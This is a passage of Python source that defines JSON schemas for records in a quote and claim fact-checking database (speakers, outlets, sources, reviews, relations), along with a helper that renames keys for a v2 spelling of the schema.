        "description": _limited("A short description.", "actor.description"),
        "wikidata_id": _limited("Its Wikidata item, e.g. Q123; empty when unknown.", "actor.wikidata_id"),
    },
}
OUTLET_SCHEMA = {
    "type": "object", "nullable": True, "description": "An outlet, known by its name.",
    "properties": {
        "name": _limited("Its name.", "outlet.name"),
        "kind": _string("What kind of outlet.", enum=list(OUTLET_KINDS)),
        "url": _limited("Its website; empty when unknown.", "outlet.url"),
        "description": _limited("A short description.", "outlet.description"),
    },
}
SOURCE_SCHEMA = {
    "type": "object",
    "description": "A source, known by its URL, or (without one) by its title and publication date.",
    "properties": {
        "url": _limited("Where the document is published; empty when unknown.", "source.url"),
        "title": _limited("Its own title; empty when it has none.", "source.title"),
        "published_on": _string("When it was published.", format="date", nullable=True),
        "language": _limited("Its language (BCP 47), e.g. en.", "source.language"),
        "authors": _names_schema("The authors it names."),
        "outlet": OUTLET_SCHEMA,
        "text": _limited("Its full text (given once a file, with the first claim that names the source).",
                         "source.text"),
    },
}
RECORD_SCHEMA = {
    "type": "object",
    "description": "One claim with everything it carries; related records described in place.",
    "properties": {
        "uid": _string("The claim's identity across databases: an import updates the claim with this uid.",
                       format="uuid"),
        "text": _limited("What was said: the exact words for a direct quote.", "claim.text"),
        "kind": _string("Direct quote or paraphrase.", enum=list(CLAIM_KINDS)),
        "speaker": ACTOR_SCHEMA,
        "speaker_role": _limited("The speaker's role at the time, as the source gives it.", "claim.speaker_role"),
        "stated_on": _string("When it was said (for month or year precision, the period's first day).",
                             format="date", nullable=True),
        "stated_on_precision": _string("How precisely the source dates it; empty when undated.",
                                       enum=["", *PRECISIONS]),
        "outlet": OUTLET_SCHEMA,
        "source": SOURCE_SCHEMA,
        "span": {"type": "object", "nullable": True,
                 "description": "Where the claim is in the source's text: text[start:end] == exact.",
                 "properties": {
                     "start": {"type": "integer", "minimum": 0, "maximum": SOURCE_TEXT_MAX_LENGTH},
                     "end": {"type": "integer", "minimum": 0, "maximum": SOURCE_TEXT_MAX_LENGTH},
                     "exact": {"type": "string", "maxLength": MAX_LENGTHS["claim.span.exact"]}}},
        "status": _string("Curation status: did the speaker really say this?", enum=list(STATUSES)),
        "status_note": _limited("Why the status was last changed.", "claim.status_note"),
        "tags": {"type": "array", "description": "Topics, known by their slugs.", "items": {
            "type": "object", "properties": {"slug": _limited("The tag's slug.", "tag.slug"),
                                             "name": _limited("Its name.", "tag.name"),
                                             "description": _limited("A short description.", "tag.description")}}},
        "reviews": {"type": "array", "description": "Verdicts on whether the claim is true.", "items": {
            "type": "object", "properties": {
                "rating": _string("The verdict.", enum=list(RATINGS)),
                "rating_text": _limited("The verdict in the reviewer's own words.", "review.rating_text"),
                "summary": _limited("A short summary.", "review.summary"),
                "reviewed_on": _string("When the review was published.", format="date", nullable=True),
                "reviewer": {**ACTOR_SCHEMA, "nullable": True},
                "source": {**SOURCE_SCHEMA, "nullable": True},
            }}},
        "relations": {"type": "array", "maxItems": RELATIONS_MAX_COUNT,
                      "description": "Relations to other claims, as this claim sees them (an import adds those the "
                                     "database lacks, and removes none).", "items": {
                          "type": "object", "properties": {
                              "type": _string("How this claim relates to the other: a directed type seen from the "
                                              "claim it points at reads as its inverse (responded_to_by).",
                                              enum=list(RELATION_SHOWN_TYPES)),
                              "claim": _string("The other claim's uid.", format="uuid")}}},
    },
}


def _schema_v2(schema: dict, record: str) -> dict:
    renames = V2_KEYS[record]
    schema = {**schema, "properties": {renames.get(k, k): v for k, v in schema["properties"].items()}}
    if record == "source":
        schema["properties"]["outlet"] = _schema_v2(schema["properties"]["outlet"], "outlet")
        schema["description"] = schema["description"].replace("its URL", "its document_url")
    return schema


def record_schema(spelling: str = "v1") -> dict:
    """``RECORD_SCHEMA`` in ``spelling`` (see ``respelled``)."""
    if spelling == "v1":
        return RECORD_SCHEMA
    properties = dict(RECORD_SCHEMA["properties"])
    properties["outlet"] = _schema_v2(properties["outlet"], "outlet")
    properties["source"] = _schema_v2(properties["source"], "source")
    review = properties["reviews"]["items"]
    review = {**review, "properties": {**review["properties"], "source": _schema_v2(review["properties"]["source"],
                                                                                    "source")}}
    properties["reviews"] = {**properties["reviews"], "items": review}
    return {**RECORD_SCHEMA, "properties": properties}
